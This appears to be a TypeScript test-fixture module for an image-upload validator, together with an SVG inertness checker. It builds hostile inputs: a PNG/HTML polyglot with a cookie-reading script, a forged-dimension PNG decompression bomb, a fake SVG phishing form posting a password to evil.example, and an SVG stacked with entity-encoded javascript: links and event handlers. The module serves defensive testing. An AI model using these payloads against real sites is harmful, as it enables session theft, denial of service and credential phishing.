import zlib from 'node:zlib';
import sharp from 'sharp';

/** Test fixtures: files whose magic bytes say "image" but whose content lies (finding 5 of issue 13). */
export async function lyingFiles(): Promise<{ name: string; data: Buffer }[]> {
  const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#884422' } }).png().toBuffer();
  const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#884422' } }).jpeg().toBuffer();
  // a PNG whose IHDR claims 30000×30000 (with a valid CRC), so only the pixel limit stops it
  const bomb = Buffer.from(png);
  bomb.writeUInt32BE(30000, 16);
  bomb.writeUInt32BE(30000, 20);
  bomb.writeUInt32BE(zlib.crc32(bomb.subarray(12, 29)), 29);
  const corrupt = Buffer.concat([png.subarray(0, 33), Buffer.alloc(200, 0x5a)]);
  return [
    { name: 'polyglot.png', data: Buffer.concat([png, Buffer.from('<html><script>alert(document.cookie)</script></html>')]) },
    { name: 'corrupt.png', data: corrupt },
    { name: 'truncated.png', data: png.subarray(0, png.length - 20) },
    { name: 'bomb.png', data: bomb },
    { name: 'corrupt.jpg', data: Buffer.concat([jpeg.subarray(0, 20), Buffer.alloc(300, 0x11)]) },
    { name: 'fake.gif', data: Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(100, 0x41)]) },
    { name: 'page.svg', data: Buffer.from('<!DOCTYPE html><html><body><p>Your session expired, sign in again</p><form action="https://evil.example/"><input name="pw"></form><svg></svg></body></html>') },
  ];
}

/** An SVG that draws something and tries every trick; accepted only in its sanitised form. */
export const HOSTILE_SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" onload="alert(1)">' +
    '<script>alert(2)</script><a xlink:href="jav&#x61;script:alert(3)"><rect width="20" height="20" fill="#336699" onclick="alert(4)"/></a>' +
    '<a href="&#106;avascript:alert(5)"><circle cx="10" cy="10" r="5"/></a><foreignObject><iframe src="javascript:alert(6)"></iframe></foreignObject></svg>',
);

/** True when an SVG's text has no script, event handler or javascript: link in any encoding. */
export function svgIsInert(svg: string): boolean {
  const text = svg
    .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_m, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ':')
    .replace(/[\t\n\r ]/g, '')
    .toLowerCase();
  return !text.includes('<script') && !text.includes('javascript:') && !text.includes('<iframe') && !text.includes('foreignobject') && !/\son[a-z]+\s*=/i.test(svg);
}
